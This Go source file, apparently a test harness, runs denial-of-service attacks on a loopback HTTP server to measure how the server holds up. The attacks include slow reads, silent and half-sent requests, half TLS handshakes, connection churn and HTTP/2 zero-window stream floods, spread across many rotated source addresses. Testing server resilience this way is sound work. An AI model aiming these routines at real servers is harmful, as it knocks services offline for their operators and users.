// Package assault attacks an HTTP server on the loopback as one client does who means harm: slowly, silently, or without
// a pause. Each attack runs in a process of its own, which is the calling program begun again, and has one address.
package assault

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"encoding/binary"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"os/exec"
	"sync"
	"syscall"
	"time"
)

// An Attack is what one client does to a server.
type Attack struct {
	Do   string // one of the ways below
	Path string // that it asks for, where it asks
	At   int    // how many at a time

	From       string // the client's address, or the first of Clients
	Clients    int    // how many addresses, which take turns; 0 for one
	Address    string // the server's
	Secure, H2 bool   // how that is reached
}

// The ways to attack.
const (
	Slowly   = "slowly"    // asks, and takes 1 kB/s of the answer
	Silent   = "silent"    // connects, and says nothing
	HalfTLS  = "half-tls"  // sends half of what begins a TLS handshake
	Churn    = "churn"     // sends the same half, closes, and comes again
	NoRead   = "no-read"   // asks, and takes nothing of the answer
	HalfHead = "half-head" // sends half of a request's head
	Idle     = "idle"      // asks once, and keeps the connection
	NoWindow = "no-window" // opens 100 streams of HTTP/2, and a window for none of them
	Again    = "again"     // asks as fast as answers come
)

const (
	// comesAgain is after how long an attacker whose connection was closed comes again.
	comesAgain = 100 * time.Millisecond
	// settling is how long an attack goes on before the victim is measured.
	settling = 2 * time.Second
	// childArgument makes a program the attacker.
	childArgument = "attacker"
	// soon is how long the attacker has until all of it is there.
	soon = 15 * time.Second
)

// Launch starts an attack, and returns when all of it has begun. The program must call [Child] first of all.
func Launch(ctx context.Context, a Attack) (stop func(), err error) {
	self, err := os.Executable()
	if err != nil {
		return nil, err
	}
	order, err := json.Marshal(a)
	if err != nil {
		return nil, err
	}
	c := exec.CommandContext(ctx, self, childArgument, string(order))
	c.Stderr = os.Stderr
	said, err := c.StdoutPipe()
	if err != nil {
		return nil, err
	}
	if _, err := c.StdinPipe(); err != nil { // closed when this process ends, however it does
		return nil, err
	}
	if err := c.Start(); err != nil {
		return nil, err
	}
	_, err = bufio.NewReader(said).ReadString('\n')
	stop = func() {
		_ = c.Process.Kill()
		_ = c.Wait()
	}
	if err != nil {
		stop()
		return nil, fmt.Errorf("the attacker: %w", err)
	}
	return stop, nil
}

// Child runs the attack and does not return, where the process is one that [Launch] has started.
func Child() {
	if len(os.Args) != 3 || os.Args[1] != childArgument {
		return
	}
	var a Attack
	if err := json.Unmarshal([]byte(os.Args[2]), &a); err != nil {
		panic(err)
	}
	files := syscall.Rlimit{Cur: 1 << 16, Max: 1 << 16}
	_ = syscall.Setrlimit(syscall.RLIMIT_NOFILE, &files) // as root; else as many as there may be
	_ = syscall.Setpriority(syscall.PRIO_PROCESS, 0, 10) // no network is between it and the processors of the others
	request := "GET " + a.Path + " HTTP/1.1\r\nHost: example.com\r\n\r\n"
	do := map[string]func(a *Attack) error{
		Slowly: (*Attack).slowly, NoWindow: (*Attack).noWindow, Again: (*Attack).again,
		Silent:   func(a *Attack) error { return a.silent("") },
		HalfHead: func(a *Attack) error { return a.silent("GET / HTTP/1.1\r\nHost: exam") },
		HalfTLS:  func(a *Attack) error { return a.silent(halfHandshake) },
		Churn:    (*Attack).churn,
		Idle:     func(a *Attack) error { return a.silent(request) },
		NoRead:   func(a *Attack) error { return a.noRead(request) },
	}[a.Do]
	var begun sync.WaitGroup
	first := netip.MustParseAddr(a.From).As4()
	for i := range a.At {
		begun.Add(1)
		go func() {
			a, n := a, i%max(1, a.Clients)
			a.From = netip.AddrFrom4([4]byte{first[0], first[1] + byte(n>>16), first[2] + byte(n>>8), first[3] + byte(n)}).String()
			first := sync.OnceFunc(begun.Done)
			time.AfterFunc(time.Second, first)
			for {
				_ = do(&a) // it is closed, sooner or later
				first()
				time.Sleep(comesAgain)
			}
		}()
	}
	begun.Wait()
	time.Sleep(settling)
	fmt.Println("begun")
	_, _ = io.Copy(io.Discard, os.Stdin) // until the parent ends
	os.Exit(0)
}

// dial connects as the attacker, who takes little at a time.
func (a *Attack) dial(protocols ...string) (net.Conn, error) {
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(a.From)}, Timeout: soon, Control: func(_, _ string, c syscall.RawConn) error {
		return c.Control(func(fd uintptr) { _ = syscall.SetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_RCVBUF, 4<<10) })
	}}
	c, err := d.Dial("tcp", a.Address)
	if err != nil || !a.Secure || protocols == nil {
		return c, err
	}
	s := tls.Client(c, &tls.Config{InsecureSkipVerify: true, NextProtos: protocols}) //nolint:gosec // its own certificate
	if err := s.Handshake(); err != nil {
		c.Close()
		return nil, err
	}
	return s, nil
}

// slowly asks for something and takes 1 kB/s of it. Over HTTP/2 it does that on a connection with HTTP/1.1: what counts is
// the connection.
func (a *Attack) slowly() error {
	c, err := a.dial("http/1.1")
	if err != nil {
		return err
	}
	defer c.Close()
	if _, err = fmt.Fprintf(c, "GET %s HTTP/1.1\r\nHost: example.com\r\n\r\n", a.Path); err != nil {
		return err
	}
	for b := make([]byte, 250); err == nil; time.Sleep(250 * time.Millisecond) {
		_, err = c.Read(b)
	}
	return err
}

// halfHandshake is the beginning of a TLS handshake.
const halfHandshake = "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"

// churn connects, sends half of what begins a TLS handshake, and closes.
func (a *Attack) churn() error {
	c, err := a.dial()
	if err != nil {
		return err
	}
	_, err = io.WriteString(c, halfHandshake)
	return errors.Join(err, c.Close())
}

// silent connects, sends that, and waits.
func (a *Attack) silent(sent string) error {
	c, err := a.dial()
	if err != nil {
		return err
	}
	defer c.Close()
	if _, err = io.WriteString(c, sent); err == nil {
		_, err = io.Copy(io.Discard, c)
	}
	return err
}

// noRead asks for something over TLS or plain, reads none of the answer, and waits until it is closed.
func (a *Attack) noRead(sent string) error {
	c, err := a.dial("http/1.1")
	if err != nil {
		return err
	}
	defer c.Close()
	if _, err = io.WriteString(c, sent); err != nil {
		return err
	}
	for ; err == nil; time.Sleep(time.Second) { // an error of the socket is seen without reading from it
		raw, ok := c.(*net.TCPConn)
		if s, secure := c.(*tls.Conn); secure {
			raw, ok = s.NetConn().(*net.TCPConn)
		}
		if !ok {
			return errors.New("not a TCP connection")
		}
		err = socketError(raw)
	}
	return err
}

// socketError returns the error of a connection that was reset, nil while it is open.
func socketError(c *net.TCPConn) (err error) {
	raw, err := c.SyscallConn()
	if err != nil {
		return err
	}
	closed := raw.Control(func(fd uintptr) {
		if n, failed := syscall.GetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_ERROR); failed != nil || n != 0 {
			err = syscall.Errno(n)
		}
	})
	return errors.Join(err, closed)
}

// again asks for something as fast as it comes.
func (a *Attack) again() error {
	c, err := a.dial("http/1.1")
	if err != nil {
		return err
	}
	defer c.Close()
	r := bufio.NewReader(c)
	for {
		if _, err := fmt.Fprintf(c, "GET %s HTTP/1.1\r\nHost: example.com\r\n\r\n", a.Path); err != nil {
			return err
		}
		answer, err := http.ReadResponse(r, nil)
		if err != nil {
			return err
		}
		if _, err := io.Copy(io.Discard, answer.Body); err != nil {
			return err
		}
		if answer.Close {
			return errors.New("closed")
		}
	}
}

// noWindow opens 100 streams, and a window for none of them.
func (a *Attack) noWindow() error {
	c, err := a.dial("h2")
	if err != nil {
		return err
	}
	defer c.Close()
	var b bytes.Buffer
	b.WriteString("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
	frame(&b, 4, 0, 0, []byte{0, 4, 0, 0, 0, 0}) // SETTINGS_INITIAL_WINDOW_SIZE is 0
	for stream := uint32(1); stream < 200; stream += 2 {
		block := []byte{0x82, 0x87, 0x04} // GET, https, and a path
		block = text(block, a.Path)
		block = text(append(block, 0x01), "example.com") // :authority
		frame(&b, 1, 5, stream, block)                   // the end of headers and stream
	}
	if _, err := c.Write(b.Bytes()); err != nil {
		return err
	}
	_, err = io.Copy(io.Discard, c)
	return err
}

// text adds a literal without Huffman's code (RFC 7541 §5.2).
func text(b []byte, s string) []byte {
	if len(s) > 126 {
		panic("too long")
	}
	return append(append(b, byte(len(s))), s...)
}

// frame adds a frame of HTTP/2 (RFC 9113 §4.1).
func frame(b *bytes.Buffer, kind, flags byte, stream uint32, payload []byte) {
	b.Write([]byte{0, byte(len(payload) >> 8), byte(len(payload)), kind, flags})
	_ = binary.Write(b, binary.BigEndian, stream)
	b.Write(payload)
}
